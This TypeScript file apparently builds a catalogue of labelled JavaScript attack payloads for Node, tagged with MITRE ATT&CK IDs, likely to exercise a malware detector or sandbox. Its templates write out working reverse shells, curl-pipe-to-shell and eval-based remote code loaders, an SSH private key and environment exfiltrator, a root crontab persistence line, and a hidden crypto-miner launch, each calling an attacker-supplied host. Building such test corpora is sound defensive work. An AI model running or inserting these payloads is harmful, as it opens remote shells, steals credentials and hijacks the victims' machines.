import { type Payload, payloads } from '../payload.ts';

/** Behaviours written for Node. */
export const javascript: readonly Payload[] = [
  ...payloads('javascript', 'EXE-REVSH', [
    [
      'js-rev-pipe',
      'malicious',
      'T1059.004 T1059.007',
      (p) =>
        `const net = require('net');\nconst cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst client = new net.Socket();\nclient.connect(${p.port}, '${p.ip}', () => {\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n  sh.stderr.pipe(client);\n});\n`,
    ],
    [
      'js-rev-exec',
      'malicious',
      'T1059.004 T1059.007',
      (p) => `require('child_process').exec('bash -c "bash -i >& /dev/tcp/${p.ip}/${p.port} 0>&1"');\n`,
    ],
  ]),
  ...payloads('javascript', 'EXE-DLEXEC', [
    [
      'js-dl-exec',
      'malicious',
      'T1105',
      (p) =>
        `const { execSync } = require('child_process');\nexecSync('curl -s http://${p.ip}/x.sh | sh', { stdio: 'ignore' });\n`,
    ],
    [
      'js-dl-eval',
      'malicious',
      'T1105',
      (p) =>
        `const http = require('http');\nhttp.get('http://${p.ip}:${p.port}/s.js', (res) => {\n  let body = '';\n  res.on('data', (c) => { body += c; });\n  res.on('end', () => eval(body));\n});\n`,
    ],
    [
      'js-dl-fetch',
      'malicious',
      'T1105',
      (p) => `fetch('http://${p.ip}/p.js').then((r) => r.text()).then((t) => new Function(t)());\n`,
    ],
  ]),
  ...payloads('javascript', 'CA-FILES', [
    [
      'js-steal',
      'malicious',
      'T1041 T1552.001 T1552.004',
      (p) =>
        `const fs = require('fs');\nconst https = require('https');\nconst os = require('os');\nconst data = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nconst req = https.request({ hostname: '${p.host}', path: '/k', method: 'POST' });\nreq.write(data);\nreq.end();\n`,
    ],
    [
      'js-env',
      'suspicious',
      'T1041 T1567 T1552.001',
      (p) => `fetch('https://${p.host}/e', { method: 'POST', body: JSON.stringify(process.env) });\n`,
    ],
  ]),
  ...payloads('javascript', 'PER-CRON', [
    [
      'js-cron-host',
      'malicious',
      'T1053.003',
      (p) => `require('fs').appendFileSync('/host/etc/crontab', '* * * * * root curl -s http://${p.ip}/c | sh\\n');\n`,
    ],
  ]),
  ...payloads('javascript', 'IM-MINER', [
    [
      'js-miner',
      'malicious',
      'T1496 T1496.001',
      (p) =>
        `const { spawn } = require('child_process');\nspawn('/opt/sys', ['-o', '${p.pool}', '-u', '${p.wallet}', '-p', 'x', '--donate-level=1'], { detached: true });\n`,
      () => ({ '/opt/sys': { content: '\u007fELF stand-in', mode: 0o755 } }),
    ],
  ]),
];
